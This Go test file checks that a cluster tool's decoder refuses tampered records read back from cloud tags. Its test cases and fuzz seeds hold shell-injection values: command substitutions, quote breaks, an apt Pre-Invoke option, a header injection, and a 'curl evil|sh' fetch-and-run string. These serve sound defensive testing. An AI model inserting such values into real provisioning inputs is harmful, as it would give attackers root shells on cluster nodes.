package cluster

import (
	"encoding/json"
	"errors"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/clusterctl/clusterctl/internal/cloud"
	"github.com/clusterctl/clusterctl/internal/config"
	"github.com/clusterctl/clusterctl/plugins"
)

// validRecords are the records of every template in the valid config fixtures.
func validRecords(t *testing.T) []Record {
	t.Helper()
	files, _ := filepath.Glob("../../testdata/configs/valid/*.ini")
	var out []Record
	for _, f := range files {
		abs, _ := filepath.Abs(f)
		env := &config.Env{Home: "/home/user", Cwd: filepath.Dir(abs), Lookup: func(string) (string, bool) { return "", false }}
		cfg, err := config.Load(config.LoadOptions{Path: abs, Env: env, Catalog: plugins.NewCatalog()})
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		for _, name := range cfg.TemplateNames() {
			tpl, err := cfg.Template(name, nil)
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, NewRecord(tpl, "ec2", []string{"203.0.113.7/32"}, time.Unix(0, 0), nil))
		}
	}
	if len(out) < 3 {
		t.Fatalf("only %d templates in the fixtures", len(out))
	}
	return out
}

func TestRecordsOfValidConfigsPassTheirChecks(t *testing.T) {
	for _, r := range validRecords(t) {
		if _, err := DecodeRecord(r.Encode()); err != nil {
			t.Errorf("template %s: %v", r.Template, err)
		}
	}
}

// TestHostileRecordsRefused: a record rewritten by someone who can tag the cluster's security
// group is refused, naming the tag and the field, whatever it tries to smuggle to a root shell.
func TestHostileRecordsRefused(t *testing.T) {
	base := validRecords(t)[0]
	for _, tc := range []struct {
		name, field string
		edit        func(*Record)
	}{
		{"mount path with a command", "volume", func(r *Record) {
			r.Volumes = []RecordVolume{{Name: "data", ID: "vol-0123456789abcdef0", MountPath: "/data$(touch /tmp/pwned)"}}
		}},
		{"mount path through ..", "volume", func(r *Record) {
			r.Volumes = []RecordVolume{{Name: "data", ID: "vol-0123456789abcdef0", MountPath: "/data/../etc"}}
		}},
		{"volume id with a newline", "volume", func(r *Record) {
			r.Volumes = []RecordVolume{{Name: "data", ID: "vol-1\nid", MountPath: "/data"}}
		}},
		{"cluster user root", "cluster_user", func(r *Record) { r.ClusterUser = "root" }},
		{"cluster user with a quote", "cluster_user", func(r *Record) { r.ClusterUser = "u'; id; '" }},
		{"shell", "cluster_shell", func(r *Record) { r.ClusterShell = "/bin/sh -c id" }},
		{"login user", "login_user", func(r *Record) { r.LoginUser = "admin\nroot" }},
		{"image", "node_image", func(r *Record) { r.NodeImage = "ami-1;id" }},
		{"instance type", "master_type", func(r *Record) { r.MasterType = "$(id)" }},
		{"node type image", "node_types[0]", func(r *Record) {
			r.NodeTypes = []config.InstanceSpec{{Type: "m5.large", Image: "x y"}}
		}},
		{"zone", "zone", func(r *Record) { r.Zone = "us-east-1a;id" }},
		{"cidr", "ssh_cidr", func(r *Record) { r.SSHCIDR = []string{"0.0.0.0/0; id"} }},
		{"unknown plugin", "plugin", func(r *Record) { r.Plugins = []RecordPlugin{{Name: "x", Builtin: "python.Evil"}} }},
		{"unknown parameter", "plugin", func(r *Record) {
			r.Plugins = []RecordPlugin{{Name: "x", Builtin: "pkginstaller", Params: map[string]any{"pre_invoke": "id"}}}
		}},
		{"apt option", "plugin", func(r *Record) {
			r.Plugins = []RecordPlugin{{Name: "x", Builtin: "pkginstaller", Params: map[string]any{"packages": []any{"htop", "-oDPkg::Pre-Invoke::=id"}}}}
		}},
		{"list item holding two", "plugin", func(r *Record) {
			r.Plugins = []RecordPlugin{{Name: "x", Builtin: "pkginstaller", Params: map[string]any{"packages": []any{"htop,vim"}}}}
		}},
		{"pip command", "plugin", func(r *Record) {
			r.Plugins = []RecordPlugin{{Name: "x", Builtin: "pypkginstaller", Params: map[string]any{"packages": []any{"numpy"}, "install_command": "pip install %s; curl evil|sh"}}}
		}},
		{"segway path", "plugin", func(r *Record) {
			r.Plugins = []RecordPlugin{{Name: "x", Builtin: "segway", Params: map[string]any{"segway_path": "/opt/s\nCLUSTERCTL_EOF\nid"}}}
		}},
		{"condor host", "plugin", func(r *Record) {
			r.Plugins = []RecordPlugin{{Name: "x", Builtin: "condor", Params: map[string]any{"condor_host": "cm`id`"}}}
		}},
		{"parameter type", "plugin", func(r *Record) {
			r.Plugins = []RecordPlugin{{Name: "x", Builtin: "users", Params: map[string]any{"num_users": "3; id"}}}
		}},
		{"rule", "rules", func(r *Record) { r.Rules = []cloud.Rule{{Protocol: "tcp", FromPort: 22, ToPort: 22, CIDR: "x"}} }},
		{"boot script name", "boot_scripts", func(r *Record) {
			r.BootScripts = []RecordScript{{Name: "x.sh\"\r\nContent-Type: text/x-shellscript", Content: "#!/bin/sh\n"}}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := base
			r.Volumes, r.Plugins, r.Rules = nil, nil, nil
			tc.edit(&r)
			// Through JSON, as a record comes back from the cloud.
			data, _ := json.Marshal(r)
			_, err := DecodeRecord(data)
			var re *RecordError
			if !errors.As(err, &re) {
				t.Fatalf("not refused: %v", err)
			}
			if !strings.HasPrefix(re.Field, tc.field) || !strings.Contains(err.Error(), "tag "+cloud.TagTemplate) {
				t.Errorf("error %q: want the field %s and the tag named", err, tc.field)
			}
		})
	}
}

// FuzzDecodeRecord: whatever JSON comes back from the tags, a record that decodes passes its
// checks: its cluster user, shell, volumes' mount paths and plugin names are safe.
func FuzzDecodeRecord(f *testing.F) {
	f.Add([]byte(`{"v":1,"cluster_size":2,"cluster_user":"u","cluster_shell":"bash","master_image":"ami-1","master_type":"m5.large","node_image":"ami-1"}`))
	f.Add([]byte(`{"v":1,"cluster_size":2,"cluster_user":"u","cluster_shell":"bash","master_image":"ami-1","master_type":"m5.large","node_image":"ami-1","volumes":[{"name":"d","id":"vol-0123456789abcdef0","mount_path":"/data$(id)"}]}`))
	f.Add([]byte(`{"v":1,"plugins":[{"name":"p","builtin":"pkginstaller","params":{"packages":["-oDPkg::Pre-Invoke::=id"]}}]}`))
	f.Add([]byte(`{"v":99}`))
	f.Add([]byte(`[`))
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := DecodeRecord(data)
		if err != nil {
			return
		}
		if r.ClusterUser == "root" || strings.ContainsAny(r.ClusterUser+r.ClusterShell+r.MasterImage+r.NodeImage, " ;$`'\"\n") {
			t.Fatalf("unsafe record accepted: %+v", r)
		}
		for _, v := range r.Volumes {
			if err := config.CheckMountPath(v.MountPath); err != nil {
				t.Fatalf("volume %+v accepted: %v", v, err)
			}
		}
	})
}

// minimalRecord is the smallest record that passes Record.Check.
func minimalRecord() Record {
	return Record{Version: recordVersion, Template: "small", ClusterSize: 1, ClusterUser: "clusteruser", ClusterShell: "bash",
		MasterImage: "ami-0123456789abcdef0", MasterType: "m5.large", NodeImage: "ami-0123456789abcdef0"}
}

// TestPermissionsDefaultToSSHCIDR: a [permission] without CIDR_IP admits what SSH_CIDR
// admits (one rule per address), never the world; a written CIDR_IP is kept as written.
func TestPermissionsDefaultToSSHCIDR(t *testing.T) {
	tpl := &config.Template{Name: "t", ClusterSize: 1, ClusterUser: "u", ClusterShell: "bash", NodeImageID: "ami-1",
		NodeInstanceType: []config.InstanceSpec{{Type: "m5.large"}},
		Permissions: []*config.Permission{{Name: "web", Protocol: "tcp", FromPort: 80, ToPort: 80},
			{Name: "open", Protocol: "tcp", FromPort: 81, ToPort: 81, CIDR: "0.0.0.0/0"}}}
	r := NewRecord(tpl, "ec2", []string{"203.0.113.7/32", "198.51.100.0/24"}, time.Unix(0, 0), nil)
	var web, open []string
	for _, rule := range r.Rules {
		switch rule.FromPort {
		case 80:
			web = append(web, rule.CIDR)
		case 81:
			open = append(open, rule.CIDR)
		}
	}
	if strings.Join(web, " ") != "203.0.113.7/32 198.51.100.0/24" || strings.Join(open, " ") != "0.0.0.0/0" {
		t.Errorf("port 80 admits %v, port 81 %v", web, open)
	}
}
